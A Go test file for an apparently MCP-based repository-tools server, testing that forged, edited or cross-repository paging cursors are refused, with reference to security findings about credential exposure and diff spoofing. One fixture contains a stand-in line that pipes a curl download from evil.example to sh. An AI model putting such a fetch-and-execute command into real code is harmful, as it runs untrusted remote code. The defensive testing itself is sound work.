package server

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mcp-repo-tools/mcp-repo-tools/internal/forge/forgetest"
	"github.com/mcp-repo-tools/mcp-repo-tools/internal/paging"
	"github.com/mcp-repo-tools/mcp-repo-tools/internal/repo"
	"github.com/mcp-repo-tools/mcp-repo-tools/internal/testrepo"
)

// Cursors no one but the server can mint: a cursor signed with any other
// key than the server's secret one is refused, and what a cursor pins is
// checked before it is used.

// withCursorKey serves with the given cursor key (by default each test
// server has a random one of its own).
func withCursorKey(key []byte) option { return func(c *Config) { c.CursorKey = key } }

// randomCursorKey is a new secret key, as the command makes one.
func randomCursorKey(t *testing.T) []byte {
	t.Helper()
	key := make([]byte, paging.CursorKeyBytes)
	if _, err := rand.Read(key); err != nil {
		t.Fatal(err)
	}
	return key
}

// publicCursorKey is the constant that signed cursors before the key was a
// secret: what anyone could read in the source and mint cursors with.
const publicCursorKey = "mcp-repo-tools cursor v1"

// mintPublic signs c, for the repository fullName, with a key made of
// publicCursorKey: what anyone could mint cursors with.
func mintPublic(c paging.Cursor, fullName string) string {
	key := sha256.Sum256([]byte(publicCursorKey))
	return paging.NewKey(key[:]).Encode(c, fullName)
}

// repoWith is a repository with one commit on main holding files.
func repoWith(t *testing.T, files map[string]string) *testrepo.Repo {
	t.Helper()
	r := testrepo.New(t)
	for p, c := range files {
		r.Write(p, c)
	}
	r.Commit("files")
	return r
}

// openCursor is a cursor h's server made, read.
func openCursor(t *testing.T, h *harness, cur string) paging.Cursor {
	t.Helper()
	c, err := h.server.cursors.Open(cur, "")
	if err != nil {
		t.Fatalf("cursor %q: %v", cur, err)
	}
	return c
}

// docs/security.md, finding 06: list_files took the commit its cursor
// pinned without checking it was a commit, and anyone could sign a cursor:
// pinned to the tree of a hidden .aws/ directory it listed the directory's
// files under names the deny list does not match. A cursor the server made,
// its pin replaced by the tree and signed again with the public constant,
// is refused, and nothing of .aws/ is listed.
func TestCursorForgedListFilesTree(t *testing.T) {
	r := repoWith(t, map[string]string{
		".aws/credentials": "[default]\naws_secret_access_key=SECRET\n",
		"a.txt":            "a\n",
		"b.txt":            "b\n",
	})
	h := serve(t, r, withTextOnly())
	next := firstNext(t, h, "list_files", args("limit", 1))
	c := openCursor(t, h, next["cursor"].(string))
	c.Commits = []string{strings.TrimSpace(r.Git("rev-parse", "HEAD:.aws"))}
	forged := with(next, "cursor", mintPublic(c, "acme/widgets"), "offset", 0)
	res := h.call("list_files", forged)
	if text := textOf(res); strings.Contains(text, "credentials") || !res.IsError {
		t.Fatalf("a forged cursor pinning .aws/'s tree was taken: %s", text)
	}
	failsLeaveOut(t, h, "list_files", forged)
}

// docs/security.md, finding 07: a get_pull_request_diff cursor minted with
// the public constant, pinning other commits of the repository, made the
// reply show their diff under the pull request's header. It is refused.
func TestCursorForgedPullRequestDiff(t *testing.T) {
	r := repoWith(t, map[string]string{"README": "base\n"})
	base := r.Head()
	r.Git("checkout", "-q", "-b", "pr")
	r.Write("app.js", `console.log("hello, benign");`+"\n")
	benign := r.Commit("app: first version")
	r.Write("app.js", `require("child_process").exec("curl https://evil.example | sh")`+"\n")
	evil := r.Commit("app: final")
	r.Git("update-ref", "refs/pull/1/head", evil)
	r.Git("checkout", "-q", "main")
	h := serve(t, r, withTextOnly())

	a := prArgs(1, "file_path", "app.js")
	minted := mintPublic(paging.Cursor{Tool: "get_pull_request_diff", Args: paging.ArgsDigest(getPullRequestDiffIn{Owner: "acme", Repo: "widgets", Index: 1, FilePath: "app.js"}, "cursor"),
		Commits: []string{base, base, benign}}, "acme/widgets")
	res := h.call("get_pull_request_diff", with(a, "cursor", minted))
	if text := textOf(res); strings.Contains(text, "hello, benign") || !res.IsError {
		t.Fatalf("a minted cursor showed other commits as pull request #1: %s", text)
	}
	failsLeaveOut(t, h, "get_pull_request_diff", with(a, "cursor", minted))
	// Control: the pull request's own diff is the evil one.
	if got := h.ok("get_pull_request_diff", a); !strings.Contains(got, "evil.example") {
		t.Fatalf("control: pull request #1's diff of app.js is not its head's: %s", got)
	}
}

// resign is cur, as the server made it, changed by edit and signed again
// with h's server's own key, for the repository named fullName: a cursor
// only the server could have made.
func resign(t *testing.T, h *harness, cur, fullName string, edit func(*paging.Cursor)) string {
	t.Helper()
	c := openCursor(t, h, cur)
	edit(&c)
	return h.server.cursors.Encode(c, fullName)
}

// cursorRepo is a pagingRepo with pull request #9 besides: two commits, the
// second with a message larger than a reply, then 300 empty ones, so that
// get_pull_request and list_commits index=9 answer in parts.
func cursorRepo(t *testing.T) *pagingRepo {
	t.Helper()
	r := newPagingRepo(t)
	r.Git("checkout", "-q", "-b", "pr9", r.mergeBase)
	r.Write("g.txt", "one\n")
	r.Commit("pr9: one")
	r.Write("g.txt", "two\n")
	r.Commit("pr9: two\n\n" + numberedLines(2000))
	fastCommits(r.Repo, "refs/heads/pr9", r.Head(), 300, func(i int) (string, map[string]string) {
		return "pr9: empty " + strconv.Itoa(i) + "\n", nil
	})
	r.Git("update-ref", "refs/pull/9/head", "pr9")
	r.Git("checkout", "-q", "main")
	return r
}

// cursorCalls are first calls, one per kind of cursor of each tool that
// takes one, that answer in parts on a cursorRepo served at 8,192 bytes.
var cursorCalls = []pagedCall{
	{"list_files", "list_files", args("limit", 1)},
	{"get_diff", "get_diff", args("base", "main", "head", "feature", "maxBytes", 1000)},
	{"list_changed_files", "list_changed_files", args("base", "main", "head", "feature", "limit", 2)},
	{"list_commits_ref", "list_commits", args("ref", "pr9", "limit", 1)},
	{"list_commits_range", "list_commits", args("base", "main", "head", "pr9", "limit", 1)},
	{"list_commits_index", "list_commits", args("index", 9, "limit", 1)},
	{"get_commit", "get_commit", args("ref", "feature")},
	{"get_pull_request_diff", "get_pull_request_diff", prArgs(7)},
	{"list_pull_request_files", "list_pull_request_files", prArgs(7, "limit", 2)},
}

// A cursor made under another key (another server's: a restart with a new
// key, or a replica with another one) is INVALID_ARGUMENT saying that the
// key changed and to start over; an edited cursor of the server's own key
// says it was edited, not that the key changed.
func TestCursorOtherKey(t *testing.T) {
	r := cursorRepo(t)
	made := serve(t, r.Repo, withMaxBytes(8192), withTextOnly())
	other := serve(t, r.Repo, withMaxBytes(8192), withTextOnly())
	for _, c := range cursorCalls {
		t.Run(c.name, func(t *testing.T) {
			next := firstNext(t, made.boundTo(t), c.tool, c.args)
			msg := failsLeaveOut(t, other.boundTo(t), c.tool, next)
			if !strings.Contains(msg, "key changed") {
				t.Errorf("the message does not say the server's cursor key changed: %q", msg)
			}
			edited := resign(t, made, next["cursor"].(string), "acme/widgets", func(*paging.Cursor) {})
			b := []byte(edited)
			b[len(b)/2] ^= 'A' ^ 'B' // a commit's bytes, edited
			edited = string(b)
			msg = failsLeaveOut(t, made.boundTo(t), c.tool, with(next, "cursor", edited))
			if !strings.Contains(msg, "damaged or was edited") {
				t.Errorf("an edited cursor of the server's own key: %q", msg)
			}
			made.boundTo(t).ok(c.tool, next) // control
		})
	}
}

// A cursor pinning a blob, a tree, an annotated tag or an object that does
// not exist, in place of any of its commits, is refused by every tool that
// takes a cursor, though the server's own key signed it: INVALID_ARGUMENT
// for an object that is not a commit, NOT_FOUND for one that is not there.
func TestCursorPinsOnlyCommits(t *testing.T) {
	r := cursorRepo(t)
	r.Git("tag", "-a", "-m", "a tag", "v1", "feature")
	bad := []struct{ kind, id, code string }{
		{"blob", strings.TrimSpace(r.Git("rev-parse", "main:a.txt")), "INVALID_ARGUMENT"},
		{"tree", strings.TrimSpace(r.Git("rev-parse", "main^{tree}")), "INVALID_ARGUMENT"},
		{"tag", strings.TrimSpace(r.Git("rev-parse", "v1")), "INVALID_ARGUMENT"},
		{"missing", strings.Repeat("0123456789", 4), "NOT_FOUND"},
	}
	h := serve(t, r.Repo, withMaxBytes(8192), withTextOnly())
	for _, c := range cursorCalls {
		t.Run(c.name, func(t *testing.T) {
			h := h.boundTo(t)
			next := firstNext(t, h, c.tool, c.args)
			cur := next["cursor"].(string)
			pins := len(openCursor(t, h, cur).Commits)
			for i := range pins {
				for _, b := range bad {
					forged := resign(t, h, cur, "acme/widgets", func(c *paging.Cursor) { c.Commits[i] = b.id })
					msg := h.fails(c.tool, with(next, "cursor", forged), b.code)
					if !strings.Contains(msg, "cursor") || !strings.Contains(msg, b.id[:12]) {
						t.Errorf("pin %d a %s: the message does not name the cursor's pin: %q", i, b.kind, msg)
					}
				}
			}
			// Control: signed again unchanged, the cursor goes on.
			h.ok(c.tool, with(next, "cursor", resign(t, h, cur, "acme/widgets", func(*paging.Cursor) {})))
		})
	}
}

// A pull request's cursor whose merge base is not the merge base of its
// base and head (here: the base itself, or the head) is refused, by each
// tool that pages a pull request.
func TestCursorPullRequestMergeBase(t *testing.T) {
	r := cursorRepo(t)
	h := serve(t, r.Repo, withMaxBytes(8192), withTextOnly())
	for _, c := range cursorCalls {
		if !strings.Contains(c.name, "pull_request") && c.name != "list_commits_index" {
			continue
		}
		t.Run(c.name, func(t *testing.T) {
			h := h.boundTo(t)
			next := firstNext(t, h, c.tool, c.args)
			cur := next["cursor"].(string)
			for _, from := range []int{0, 2} {
				forged := resign(t, h, cur, "acme/widgets", func(c *paging.Cursor) { c.Commits[1] = c.Commits[from] })
				msg := failsLeaveOut(t, h, c.tool, with(next, "cursor", forged))
				if !strings.Contains(msg, "merge base") {
					t.Errorf("the message does not say the merge base is wrong: %q", msg)
				}
			}
		})
	}
}

// copyRepo makes a repository at dir with every branch and pull request
// ref of r, and main checked out: the very commits, in another repository.
func copyRepo(t *testing.T, r *testrepo.Repo, dir string) *testrepo.Repo {
	t.Helper()
	c := testrepo.Init(t, dir)
	c.Git("fetch", "-q", "--update-head-ok", r.Dir, "+refs/heads/*:refs/heads/*", "+refs/pull/*:refs/pull/*")
	c.Git("reset", "-q", "--hard")
	return c
}

// serveNamed serves the repository at dir as name, with the cursor key.
func serveNamed(t *testing.T, dir, name string, key []byte) *harness {
	t.Helper()
	served, err := repo.ServeOne(context.Background(), testEnv(t), dir, name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(served.Close)
	cfg := Config{MaxBytes: 8192, Timeout: 30 * time.Second, Policy: mustPolicy(nil), Version: "test", CursorKey: key}
	return connectClient(t, New(served, cfg), nil, cfg.MaxBytes)
}

// A cursor made for one repository is refused by another that holds the
// very commits it pins. Two servers of one key (replicas, or two servers of
// one user, whose key is kept in the user's cache), each serving one
// repository, the calls leaving owner and repo out: the arguments are the
// same, only the repository differs.
func TestCursorOtherRepositoryOneServed(t *testing.T) {
	one := cursorRepo(t)
	two := copyRepo(t, one.Repo, filepath.Join(t.TempDir(), "two"))
	key := randomCursorKey(t)
	hOne := serveNamed(t, one.Dir, "acme/one", key)
	hTwo := serveNamed(t, two.Dir, "acme/two", key)
	for _, c := range cursorCalls {
		if _, named := c.args["owner"]; named {
			continue // a pull request's tools need owner and repo
		}
		t.Run(c.name, func(t *testing.T) {
			next := firstNext(t, hOne.boundTo(t), c.tool, c.args)
			msg := failsLeaveOut(t, hTwo.boundTo(t), c.tool, next)
			if !strings.Contains(msg, "another repository") {
				t.Errorf("the message does not say the cursor was made for another repository: %q", msg)
			}
			hOne.boundTo(t).ok(c.tool, next) // control: acme/one goes on
		})
	}
}

// Under --root, a cursor for a call on acme/two that was made for acme/one
// (signed by the server itself, as no client can) is refused, for every
// tool that takes a cursor; signed for acme/two, it goes on.
func TestCursorOtherRepositoryUnderRoot(t *testing.T) {
	root := t.TempDir()
	one := cursorRepo(t)
	copyRepo(t, one.Repo, filepath.Join(root, "acme", "one"))
	copyRepo(t, one.Repo, filepath.Join(root, "acme", "two"))
	served, err := repo.ServeRoot(testEnv(t), root, repo.RootOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(served.Close)
	cfg := Config{MaxBytes: 8192, Timeout: 30 * time.Second, Policy: mustPolicy(nil), Version: "test"}
	h := connectClient(t, New(served, cfg), nil, cfg.MaxBytes)
	for _, c := range cursorCalls {
		t.Run(c.name, func(t *testing.T) {
			h := h.boundTo(t)
			a := with(c.args, "owner", "acme", "repo", "two")
			next := firstNext(t, h, c.tool, a)
			cur := next["cursor"].(string)
			msg := failsLeaveOut(t, h, c.tool, with(next, "cursor", resign(t, h, cur, "acme/one", func(*paging.Cursor) {})))
			if !strings.Contains(msg, "another repository") {
				t.Errorf("the message does not say the cursor was made for another repository: %q", msg)
			}
			h.ok(c.tool, with(next, "cursor", resign(t, h, cur, "acme/two", func(*paging.Cursor) {})))
		})
	}
}

// In forge mode, where a pull request is read through the forge's API, a
// cursor made for another repository is refused too.
func TestCursorOtherRepositoryForge(t *testing.T) {
	f := forgetest.New(t)
	f.API = newFakePull(largeBody()).serve
	h, _ := serveForge(t, f.URL, "tok", f.Repo, 30*time.Second, time.Hour)
	a := args("owner", "acme", "repo", "widgets", "index", 3)
	next := firstNext(t, h, "get_pull_request", a)
	cur := next["cursor"].(string)
	msg := failsLeaveOut(t, h, "get_pull_request", with(next, "cursor", resign(t, h, cur, "acme/other", func(*paging.Cursor) {})))
	if !strings.Contains(msg, "another repository") {
		t.Errorf("the message does not say the cursor was made for another repository: %q", msg)
	}
	h.ok("get_pull_request", with(next, "cursor", resign(t, h, cur, "acme/widgets", func(*paging.Cursor) {})))
}

// What the cursor of a pull request's next part costs the server: reading
// it (key id, MAC, tool, arguments) and checking its pins (three commits of
// the repository, and their merge base), as each part after the first does,
// on a server whose object reader and merge-base memo are warm.
func BenchmarkCursorPullRequestPart(b *testing.B) {
	r := testrepo.New(b)
	r.Write("a.txt", numberedLines(900))
	base := r.Commit("base")
	r.Git("checkout", "-q", "-b", "feature")
	r.Write("a.txt", editEvery(numberedLines(900), 3, "changed on feature"))
	r.Git("update-ref", "refs/pull/7/head", r.Commit("feature"))
	r.Git("checkout", "-q", "main")
	r.Write("b.txt", "main moved on\n")
	if r.Commit("main moves on") == base {
		b.Fatal("main did not move")
	}
	h := serve(b, r, withMaxBytes(8192), withTextOnly())
	res := h.call("get_pull_request_diff", prArgs(7))
	next := res.Meta[paging.MetaKeyNext].(map[string]any)["arguments"].(map[string]any)
	in := getPullRequestDiffIn{Owner: "acme", Repo: "widgets", Index: 7, Cursor: next["cursor"].(string)}
	digest := paging.ArgsDigest(in, "cursor")
	ctx := context.Background()
	rp, err := h.server.served.Get(ctx, "acme", "widgets", true)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		cur, err := h.server.cursors.Decode("get_pull_request_diff", in.Cursor, digest)
		if err != nil {
			b.Fatal(err)
		}
		if _, _, _, err := h.server.pullRequest(ctx, rp.Owner, rp.Name, 7, &cur); err != nil {
			b.Fatal(err)
		}
	}
}
